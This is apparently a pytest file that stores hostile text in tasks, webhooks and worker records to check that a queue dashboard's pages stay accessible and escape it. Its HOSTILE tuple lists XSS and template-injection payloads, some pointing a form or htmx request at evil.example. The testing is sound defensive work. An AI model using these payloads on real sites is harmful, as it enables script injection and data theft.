"""Every page, light and dark, on a desktop and on a phone: no error, nothing outside the policy, accessible, no XSS."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import msgspec
import pytest

from distributed_queue.core.hybrid_queue import HybridQueue
from distributed_queue.core.storage import TaskStack, WorkerInfo
from distributed_queue.tests.browser.soundness import ALL_RULES, check_looks, look_closely
from distributed_queue.tests.steps import put, take
from distributed_queue.tests.surfaces.dashboard_server import Site, site
from distributed_queue.webhooks import AddressRules, Register, changing_endpoints, new_endpoint

if TYPE_CHECKING:
    from collections.abc import Iterator

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "'><svg/onload=alert(3)>",
    "javascript:alert(4)",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "</textarea></title></style><script>alert(5)</script>",
    "\u202e\u0000<b onmouseover=alert(6)>",
    "<details open ontoggle=alert(7)>",
    "<form action=https://evil.example><button>press",
    "<div hx-get=//evil.example hx-trigger=load>",
)
EVERYTHING = "".join(HOSTILE)


@pytest.fixture(scope="module")
def busy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """Tasks in every state, and webhooks, whose every text is hostile."""
    file = tmp_path_factory.mktemp("webhooks") / "webhooks.json"
    with changing_endpoints(file) as known:
        known += [new_endpoint(f"https://{text}", 0.0, events=[text], queues=[text], types=[text]) for text in HOSTILE]
        known[0] = msgspec.structs.replace(known[0], disabled_at=1.0, disabled_because=EVERYTHING)
    with HybridQueue() as queue:
        fill(queue)
        with site(queue, webhooks=Register(file, AddressRules())) as place:
            place.dashboard.sampler.look()
            yield place


def fill(queue: HybridQueue) -> None:
    """Put hostile text wherever text can be."""
    for number, text in enumerate(HOSTILE):
        payload = {"type": text, "data": {text: [text, {"deep": text}]}}
        put(queue, payload, task_id=f"dead-{number}", max_retries=0)
        assert queue.mark_failed(take(queue, f"w {text}").task_id, text)
    put(queue, {"type": EVERYTHING[:200], "data": EVERYTHING}, task_id="failing", max_retries=3)
    assert queue.mark_failed(take(queue, EVERYTHING).task_id, ValueError(EVERYTHING))
    put(queue, {"type": "mail", "data": EVERYTHING}, task_id="done")
    assert queue.mark_completed(take(queue).task_id, result={EVERYTHING: EVERYTHING})
    put(queue, {"type": "mail"}, task_id="running")
    take(queue, f"{EVERYTHING}-1")
    put(queue, {"type": "mail"}, queue="mail")
    put(queue, {"type": "mail"}, delay=3600.0)
    beat(queue)
    queue.pause("mail")


PAGES = (
    "/", "/tasks", "/tasks/failing", "/tasks/done", "/tasks/running", "/queues", "/queues/mail", "/workers", "/worker",
    "/dead", "/dead/group", "/charts", "/journal", "/settings", "/submit?from=failing", f"/tasks?q={quote(HOSTILE[0])}",
    "/bulk?action=retry&q=error:alert",
)  # fmt: skip
"""Every kind of page."""


def address(place: Site, page: str) -> str:
    """Where it is in this dashboard."""
    if page == "/worker":
        return f"/worker?id={quote(EVERYTHING + '-1')}"
    group = place.dashboard.desk.dead_groups().groups[0].fingerprint.id
    return f"/dead/{group}" if page == "/dead/group" else page


def beat(queue: HybridQueue) -> None:
    """Let a worker report whose every text is hostile; it would be forgotten after half a minute."""
    texts: dict[str, Any] = {"name": EVERYTHING, "host": EVERYTHING, "version": EVERYTHING}
    stack = TaskStack(queue="default", task_id="running", attempt=1, seconds=9.0, frames=(EVERYTHING, EVERYTHING))
    stuck = msgspec.structs.replace(stack, task_id=EVERYTHING, limit_seconds=5.0, stuck=True)
    none = msgspec.structs.replace(stuck, task_id="child", frames=(), note=EVERYTHING)
    stacks = (stack, stuck, none)
    queue.storage.beat(
        WorkerInfo(id=f"{EVERYTHING}-1", pid=1, max_workers=4, active_tasks=2, memory_bytes=1, stacks=stacks, **texts)
    )


@pytest.mark.parametrize("kind", PAGES)
def test_a_page_is_sound_whatever_is_stored(busy: Site, open_tab: Any, axe: str, kind: str) -> None:
    beat(busy.queue)
    busy.dashboard.sampler.look()
    with open_tab(busy) as tab:
        page = tab.go(address(busy, kind))
        assert page.locator("main h1").count() == 1
        check_looks(page, axe)
        tab.check()


def test_hostile_text_is_shown_as_it_is(busy: Site, open_tab: Any) -> None:
    with open_tab(busy) as tab:
        page = tab.go("/tasks/dead-0")
        assert HOSTILE[0] in page.locator("main").inner_text()
        assert page.locator("main script, main img, main svg:not(.bars)").count() == 0
        page = tab.go(f"/tasks?q={quote(HOSTILE[1])}")
        assert page.locator("#search").input_value() == HOSTILE[1]
        tab.check()


def test_the_sign_in_page_is_sound_and_says_what_is_wrong(open_tab: Any, axe: str) -> None:
    with site(api_key="a-secret-key") as place, open_tab(place) as tab:
        page = tab.go(f"/queues?{quote(HOSTILE[1])}")
        page.evaluate(axe)
        assert not look_closely(page, ALL_RULES)
        page.get_by_label("API key").fill(HOSTILE[0])
        page.get_by_role("button", name="Sign in").click()
        page.get_by_role("alert").get_by_text("not accepted").wait_for()
        tab.wrong.clear()  # the browser itself reports the 401
        page.get_by_label("API key").fill("a-secret-key")
        page.get_by_role("button", name="Sign in").click()
        page.get_by_role("heading", name="Queues").wait_for()
        page.get_by_role("button", name="Sign out").click()
        page.get_by_label("API key").wait_for()
        tab.check()
